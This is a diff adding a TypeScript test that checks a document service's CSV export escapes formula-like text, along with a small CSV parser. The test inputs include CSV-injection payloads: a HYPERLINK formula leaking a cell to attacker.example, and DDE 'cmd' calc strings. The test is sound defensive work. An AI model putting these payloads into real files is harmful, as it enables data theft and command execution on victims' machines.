@@ -191,7 +191,49 @@ describe("DocuDevs upload batches over raw HTTP", () => {
     assert.match(results[0], /^# Shipping Manual/m, "DOCX headings become Markdown headings");
     assert.equal(fake.requests.length, 0);
   });
+
+  it("writes document text that looks like a spreadsheet formula into the CSV as text ('-prefixed)", async () => {
+    const { jobGuid } = await http.create();
+    const texts = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "harmless = text"];
+    for (const [i, text] of texts.entries()) await http.upload(jobGuid, { bytes: Buffer.from(text), name: `f${i}.txt`, type: "text/plain" });
+    await http.process(jobGuid, { extractionMode: "OCR" });
+    assert.equal((await http.waitUntilDone(jobGuid)).status, "COMPLETED");
+    const results: string[] = (await http.call("GET", `/job/result/${jobGuid}/json`)).body;
+    const csv = await http.call("GET", `/job/result/${jobGuid}/csv`);
+    assert.equal(csv.status, 200);
+    const [header, ...rows] = parseCsv(csv.text);
+    const textColumn = header!.indexOf("text");
+    assert.equal(rows.length, texts.length);
+    for (const [i, row] of rows.entries()) {
+      const written = row[textColumn]!;
+      if (/^[=+\-@\t\r]/.test(results[i]!)) assert.equal(written, `'${results[i]}`, `document ${i}: a formula-like cell starts with '`);
+      else assert.equal(written, results[i], `document ${i}: other text is written as it is`);
+      assert.doesNotMatch(written, /^[=+\-@\t\r]/);
+    }
+    assert.match(rows[0]![textColumn]!, /^'=HYPERLINK\(/);
+  });
 });
+
+/** RFC 4180 fields, as a spreadsheet reads them (quotes removed, "" unescaped). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let field = "";
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ",") row.push(field), (field = "");
+    else if (c === "\r" && text[i + 1] === "\n") {
+      row.push(field), rows.push(row), (row = []), (field = ""), i++;
+    } else field += c;
+  }
+  return rows;
+}
 
 describe("DocuDevs upload batches: reading and output limits", () => {
   it("ocr PREMIUM without Document Intelligence reads with the offline layout reader (headings as Markdown)", async () => {
